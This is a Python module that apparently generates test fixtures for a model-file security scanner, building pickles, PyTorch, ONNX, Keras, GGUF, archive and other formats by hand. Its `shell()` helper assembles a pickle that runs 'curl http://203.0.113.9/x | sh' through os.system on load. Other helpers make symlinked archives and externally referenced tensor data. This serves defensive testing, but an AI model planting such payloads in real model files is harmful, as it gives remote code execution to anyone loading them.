"""Builds model files, harmless and hostile, when tests and samples run. Nothing here is ever loaded or unpickled."""

from __future__ import annotations

import bz2
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib

STOP = b"."


# -- pickles, opcode by opcode -------------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


YES, NO = b"\x88", b"\x89"


def value(item: object) -> bytes:
    """A constant, or bytes that are opcodes already."""
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    if item is None:
        return b"N"
    if isinstance(item, bool):
        return b"\x88" if item else b"\x89"
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, tuple):
        return b"(" + b"".join(value(i) for i in item) + b"t"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
    raise TypeError(item)


def call(function: bytes, *args: object) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(value(arg) for arg in args) + b"tR"


def pickle(body: bytes, protocol: int = 4) -> bytes:
    """A whole stream."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + STOP


def shell(module: str = "os", attribute: str = "system", command: str = "curl http://203.0.113.9/x | sh") -> bytes:
    """The classic: a command that runs on load."""
    return pickle(call(name(module, attribute), command))


def tensor(storage: str = "0") -> bytes:
    """What a tensor of a state dictionary looks like."""
    return call(
        name("torch._utils", "_rebuild_tensor_v2"),
        value(("storage", name("torch", "FloatStorage"), storage, "cpu", 4)) + b"Q",
        0,
        (4,),
        (1,),
        NO,
        call(name("collections", "OrderedDict")),
    )


def state_dict() -> bytes:
    """A pickle as `torch.save(model.state_dict())` writes it."""
    return pickle(call(name("collections", "OrderedDict")) + b"(" + text("layer.weight") + tensor() + b"u", 2)


def legacy_torch(body: bytes) -> bytes:
    """The layout of `torch.save` before 1.6."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return (
        magic
        + b"\x80\x02M\xe9\x03."
        + pickle(value({"little_endian": True}), 2)
        + body
        + b"\x80\x02]."
        + b"\1\2\3\4" * 8
    )


# -- containers ----------------------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP file with a fixed time stamp."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for member, data in members.items():
            archive.writestr(zipfile.ZipInfo(member, (2024, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def torch_zip(body: bytes | None = None, **more: bytes) -> bytes:
    """A file of `torch.save`."""
    members = {
        "archive/data.pkl": state_dict() if body is None else body,
        "archive/data/0": struct.pack("<4f", 1, 2, 3, 4),
        "archive/version": b"3\n",
    }
    return zipped({**members, **more})


def zip_link(member: str, target: str) -> bytes:
    """A ZIP file with a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(member, (2024, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def tarred(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    """A tar file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for member, target in (links or {}).items():
            info = tarfile.TarInfo(member)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return out.getvalue()


# -- other formats -------------------------------------------------------------------------------------------------------


def safetensors(header: object = None, data: bytes = b"\0" * 16) -> bytes:
    """A safetensors file; `header` may be text that is no JSON."""
    if header is None:
        header = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    raw = header.encode() if isinstance(header, str) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def gguf(pairs: dict[str, str], tensors: int = 0, version: int = 3) -> bytes:
    """A GGUF file with texts as values and no tensors."""

    def string(item: str) -> bytes:
        raw = item.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<IQQ", version, tensors, len(pairs))
    for key, item in pairs.items():
        out += string(key) + struct.pack("<I", 8) + string(item)
    return out


def npy(dtype: str = "<f4", shape: str = "(4,)", body: bytes = b"\0" * 16) -> bytes:
    """An array of NumPy."""
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def joblib_array(tail: bytes = b"", items: int = 4) -> bytes:
    """A joblib file with a raw array in the stream; `tail` are opcodes behind the array."""
    dtype = call(name("numpy", "dtype"), "f8", NO, YES) + value((3, "<", None, None, None, -1, -1, 0)) + b"b"
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = (
        b"}("
        + text("subclass")
        + name("numpy", "ndarray")
        + text("shape")
        + value((items,))
        + text("order")
        + text("C")
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x88" + b"u"
    return b"\x80\x04" + wrapper + state + b"b" + struct.pack("<d", 2.5) * items + tail + STOP


def compressed(data: bytes, level: int = 6) -> bytes:
    """A zlib stream, as joblib writes it."""
    return zlib.compress(data, level)


def seven_zip(member: str, data: bytes, method: str = "stored") -> bytes:
    """A 7z archive of one member: stored, lzma, lzma2, deflate, bzip2, or lzma2 behind the filter for x86 code."""

    def number(value: int) -> bytes:
        return bytes([value]) if value < 0x80 else bytes([0x80 | value >> 8, value & 0xFF])

    lzma1 = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}]
    lzma2 = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}]
    x86 = [{"id": lzma.FILTER_X86}, *lzma2]
    properties = bytes([93]) + struct.pack("<I", 1 << 16)
    deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed, coders = {
        "stored": (data, b"\1\1\0"),
        "lzma": (lzma.compress(data, lzma.FORMAT_RAW, filters=lzma1), b"\1\x23\3\1\1\5" + properties),
        "lzma2": (lzma.compress(data, lzma.FORMAT_RAW, filters=lzma2), b"\1\x21\x21\1\x08"),
        "x86": (lzma.compress(data, lzma.FORMAT_RAW, filters=x86), b"\2\4\3\3\1\3\x21\x21\1\x08\0\1"),
        "deflate": (deflate.compress(data) + deflate.flush(), b"\1\3\4\1\x08"),
        "bzip2": (bz2.compress(data), b"\1\3\4\2\2"),
        "encrypted": (data, b"\1\4\6\xf1\7\1"),
    }[method]
    sizes = number(len(data)) * (2 if method == "x86" else 1)
    name_ = (member + "\0").encode("utf-16-le")
    header = (
        b"\1\4\6" + number(0) + b"\1\x09" + number(len(packed)) + b"\0\7\x0b\1\0" + coders + b"\x0c" + sizes + b"\0\0"
    )
    header += b"\5\1\x11" + number(len(name_) + 1) + b"\0" + name_ + b"\0\0"
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def zlib_window(data: bytes, bits: int) -> bytes:
    """A zlib stream with a smaller window than the usual one."""
    machine = zlib.compressobj(6, zlib.DEFLATED, bits)
    return machine.compress(data) + machine.flush()


# -- protocol buffers ----------------------------------------------------------------------------------------------------


def varint(number: int) -> bytes:
    """A number of the wire format."""
    out = bytearray()
    while True:
        byte = number & 0x7F
        number >>= 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


def field(number: int, item: bytes | str | int) -> bytes:
    """One field: a number, or bytes with their length."""
    if isinstance(item, int):
        return varint(number << 3) + varint(item)
    raw = item.encode() if isinstance(item, str) else item
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def onnx(
    location: str = "", operator: str = "Relu", domain: str = "", key: str = "location", producer: str = "pytorch"
) -> bytes:
    """An ONNX model of one node; with `location`, its tensor's data stand in another file."""
    node = field(1, "x") + field(2, "y") + field(4, operator) + (field(7, domain) if domain else b"")
    tensor = field(1, 4) + field(2, 1) + field(8, "w")
    tensor += field(13, field(1, key) + field(2, location)) + field(14, 1) if location else field(9, b"\0" * 16)
    graph = field(1, node) + field(2, "g") + field(5, tensor)
    made_by = field(2, producer) + field(3, "2.4") if producer else b""
    return field(1, 8) + made_by + field(7, graph) + field(8, field(2, 17))


def tf_node(operator: str, **attributes: bytes) -> bytes:
    """A NodeDef."""
    out = field(1, "n") + field(2, operator)
    for key, raw in attributes.items():
        out += field(5, field(1, key) + field(2, raw))
    return out


def saved_model(*nodes: bytes, keras: str = "", in_function: bool = False) -> bytes:
    """A SavedModel with these NodeDefs, in the graph or in a function of its library."""
    if in_function:
        graph = field(1, tf_node("Placeholder")) + field(2, field(1, b"".join(field(3, node) for node in nodes)))
    else:
        graph = b"".join(field(1, node) for node in (tf_node("Placeholder"), *nodes))
    meta = field(1, field(4, "serve") + field(5, "2.16.1")) + field(2, graph)
    if keras:
        user = field(1, "_tf_keras_layer") + field(3, keras)
        meta += field(7, field(1, field(5, user)))
    return field(1, 1) + field(2, meta)


def coreml_custom(name_: str) -> bytes:
    """A Core ML model with one custom layer."""
    layer = field(1, "l") + field(500, field(10, name_))
    return field(1, 4) + field(2, field(1, b"")) + field(500, field(1, layer))


# -- Keras, TFLite and others --------------------------------------------------------------------------------------------


def keras_config(*layers: dict[str, object]) -> dict[str, object]:
    """The configuration of a sequential model."""
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}, "registered_name": None}
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [dense, *layers]},
        "registered_name": None,
    }


def keras_zip(*layers: dict[str, object]) -> bytes:
    """A `.keras` file."""
    return zipped(
        {
            "metadata.json": b'{"keras_version": "3.5.0", "date_saved": "2024-09-01"}',
            "config.json": json.dumps(keras_config(*layers)).encode(),
            "model.weights.h5": hdf5(),
        }
    )


def hdf5(config: object = None) -> bytes:
    """The beginning of an HDF5 file; the configuration stands in it as plain text, as HDF5 keeps attributes."""
    body = json.dumps(config).encode() if config is not None else b""
    return b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + body + b"\0" * 300


def marshalled() -> str:
    """Base64 of what begins like a code object of CPython. It is none."""
    import base64

    return base64.b64encode(b"\xe3" + b"\0" * 16 + b"system os").decode()


def tflite(custom: str = "") -> bytes:
    """A TFLite model whose only operator has this custom code: a FlatBuffer laid out by hand."""
    text_ = custom.encode()
    # root at 12: a table with fields 0 (version) and 1 (operator_codes); its vtable stands at 8 - 8 = 0 after the header
    out = bytearray(b"\0\0\0\0TFL3")
    vtable = len(out)
    out += struct.pack("<HHHH", 8, 12, 4, 8)
    model = len(out)
    out += struct.pack("<iII", model - vtable, 3, 0)
    vector = len(out)
    out += struct.pack("<II", 1, 0)
    code_vtable = len(out)
    out += struct.pack("<HHHH", 8, 8, 0, 4)
    code = len(out)
    out += struct.pack("<iI", code - code_vtable, 0)
    string = len(out)
    out += struct.pack("<I", len(text_)) + text_ + b"\0" * (4 - len(text_) % 4)
    struct.pack_into("<I", out, 0, model)
    struct.pack_into("<I", out, model + 8, vector - (model + 8))
    struct.pack_into("<I", out, vector + 4, code - (vector + 4))
    struct.pack_into("<I", out, code + 4, string - (code + 4))
    return bytes(out)


def lz4_frame(data: bytes) -> bytes:
    """An LZ4 frame of one compressed block, all literals."""
    count = len(data)
    literals = bytes([0xF0]) + b"\xff" * ((count - 15) // 255) + bytes([(count - 15) % 255]) + data
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(literals)) + literals + b"\0\0\0\0"
